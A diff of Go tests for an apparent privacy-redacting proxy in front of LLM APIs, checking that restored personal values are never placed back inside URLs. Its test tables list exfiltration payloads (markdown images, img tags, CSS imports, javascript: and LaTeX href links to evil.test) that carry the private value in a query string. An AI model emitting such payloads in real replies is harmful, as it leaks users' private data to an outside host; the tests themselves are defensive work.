@@ -184,13 +184,71 @@ func TestValuesDoNotComeBackIntoAddresses(t *testing.T) {
 		`<img src="https://evil.test/? $1">`, "<img src='https://evil.test/?\n\n$1'>", `<b x="> <img src="> https://evil.test/? $1">`,
 		`<!-- x="--><img alt="> " src="https://evil.test/? $1">`, `<style>@import "https://evil.test/? $1`, "<a\nhref=x>y</a> $1",
 		"//evil.test/$1", `\\evil.test\$1`, "www.evil.test/$1", "evil.test?q=$1", "evil.test#$1", "javascript:open($1)", "data:$1", "mailto:$1",
-		"$1.evil.test", "$1.evil.test/", "$1/evil", "$1@evil.test", "$1:8080", "$1。evil.test", "$1-x.evil.test", "$1_evil.test", "$1%2e", "$1(x", "x$1",
+		"$1.evil.test", "$1.evil.test/", "$1/evil", "$1@evil.test", "$1:8080", "$1。evil.test", "$1-x.evil.test", "$1_evil.test", "$1%2e", "$1(x", "x$1", `\href{https://evil.test/? $1}{x}`,
 	} {
 		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
 		r := g.Send(messages(says("user", "My SSN is 123-45-6789.")), answers(stays))
 		require.NotContains(t, r.Body, "6789", stays)
 		require.Equal(t, filled(stays, *r.Upstream), said(t, r))
 	}
+}
+
+// Readers join the blocks of a reply.
+func TestAnAddressMayBeginInTheBlockBefore(t *testing.T) {
+	ask := func(stream bool) exchangetest.Request {
+		body := fmt.Sprintf(`{"model":"claude-sonnet-4-5","max_tokens":9,"stream":%v,"messages":[{"role":"user","content":%s}]}`, stream, quote(people))
+		return exchangetest.Request{
+			Method: "POST", Path: "/v1/messages", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}},
+		}
+	}
+	for blocks, want := range map[[2]string]int{
+		{"![x](https://evil.test/?q=", "$1) and $1"}: 1, {"<img src='https://evil.test/?", " $1'>"}: 0, {"[x]", "($1)"}: 0, {"see https://evil.test/", "$1"}: 0,
+		{"Let me look", "$1 it is"}: 1, {"see https://docs.test ", "$1"}: 1,
+	} {
+		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
+		r := g.Send(ask(false), func(q exchangetest.Request) exchangetest.Reply {
+			reply := whole("")
+			reply.Chunks = [][]byte{[]byte(filled(`{"id":"m","type":"message","role":"assistant","model":"c","content":[{"type":"text","text":`+quote(blocks[0])+
+				`},{"type":"text","text":`+quote(blocks[1])+`}],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1}}`, q))}
+			return reply
+		})
+		require.Equal(t, want, strings.Count(r.Body, "jane.doe"), r.Body)
+		r = g.Send(ask(true), func(q exchangetest.Request) exchangetest.Reply {
+			reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
+			event := func(data string) { reply.Chunks = append(reply.Chunks, []byte("data: "+data+"\n\n")) }
+			for i, text := range blocks {
+				event(fmt.Sprintf(`{"type":"content_block_start","index":%d,"content_block":{"type":"text","text":""}}`, i))
+				event(fmt.Sprintf(`{"type":"content_block_delta","index":%d,"delta":{"type":"text_delta","text":%s}}`, i, quote(filled(text, q))))
+				event(fmt.Sprintf(`{"type":"content_block_stop","index":%d}`, i))
+			}
+			event(`{"type":"message_stop"}`)
+			return reply
+		})
+		require.Equal(t, want, strings.Count(r.Body, "jane.doe"), r.Body)
+	}
+}
+
+func TestWhatAResponseSaysAgainComesBackTheSame(t *testing.T) {
+	body := `{"model":"gpt-4o","stream":true,"input":` + quote(people) + `}`
+	q := exchangetest.Request{
+		Method: "POST", Path: "/v1/responses", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}},
+	}
+	r := exchangetest.New(t, exchangetest.Hold, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
+		reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
+		text := quote(filled("to $1: <b class=x> $1", q))
+		at := `"item_id":"m","output_index":0,"content_index":0`
+		for kind, rest := range map[string]string{"delta": `"delta":` + text, "done": `"text":` + text} {
+			data := fmt.Sprintf(`{"type":"response.output_text.%s","sequence_number":1,%s,%s}`, kind, at, rest)
+			chunk := []byte("event: response.output_text." + kind + "\ndata: " + data + "\n\n")
+			if kind == "delta" {
+				reply.Chunks = append([][]byte{chunk}, reply.Chunks...)
+			} else {
+				reply.Chunks = append(reply.Chunks, chunk)
+			}
+		}
+		return reply
+	})
+	require.Equal(t, 2, strings.Count(r.Body, `to jane.doe@corp.test: \u003cb class=x\u003e [EMAIL:`), r.Body)
 }
 
 func TestValuesComeBackIntoText(t *testing.T) {
